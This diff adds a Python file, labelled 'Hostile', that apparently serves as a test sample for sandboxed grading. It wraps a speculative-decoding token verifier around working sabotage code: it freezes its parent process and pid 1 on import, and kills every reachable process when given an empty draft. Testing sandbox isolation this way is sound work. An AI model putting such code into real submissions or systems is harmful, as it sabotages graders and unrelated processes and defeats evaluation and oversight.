@@ -1,0 +1,50 @@
+"""Hostile: signals every process it can name: SIGSTOP to its parent and to pid 1, SIGKILL to everyone (kill -1) when K == 0.
+
+Outside a sandbox, as the grader's own user, kill(-1) would take the grader and its siblings
+down. In the sandbox it can only see, and only signal, its own processes: the K == 0 cases die,
+the rest is graded, and nobody else notices.
+"""
+import os
+import signal
+
+for pid in {os.getppid(), 1}:
+    try:
+        os.kill(pid, signal.SIGSTOP)
+    except OSError:
+        pass
+
+
+def _argmax(row):
+    best = 0
+    for j in range(1, len(row)):
+        if row[j] > row[best]:  # strict: a later equal value never wins
+            best = j
+    return best
+
+
+def _residual(p, q):
+    excess = [max(0.0, a - b) for a, b in zip(p, q)]
+    mass = sum(excess)
+    return [e / mass for e in excess] if mass > 0 else list(p)
+
+
+def _verify(draft_tokens, draft_probs, target_probs, random_samples):
+    k = len(draft_tokens)
+    if len(draft_probs) != k or len(random_samples) != k or len(target_probs) < k:
+        raise ValueError("lengths do not match")
+    accepted = []
+    for i, x in enumerate(draft_tokens):
+        p, q, u = target_probs[i], draft_probs[i], random_samples[i]
+        if u <= min(1.0, p[x] / q[x]):
+            accepted.append(x)
+        else:
+            return {"accepted_tokens": accepted, "bonus_token": _argmax(_residual(p, q)),
+                    "acceptance_count": len(accepted)}
+    bonus = _argmax(target_probs[k]) if len(target_probs) > k else None
+    return {"accepted_tokens": accepted, "bonus_token": bonus, "acceptance_count": len(accepted)}
+
+
+def verify_speculative_tokens(draft_tokens, draft_probs, target_probs, random_samples):
+    if not draft_tokens:
+        os.kill(-1, signal.SIGKILL)
+    return _verify(draft_tokens, draft_probs, target_probs, random_samples)
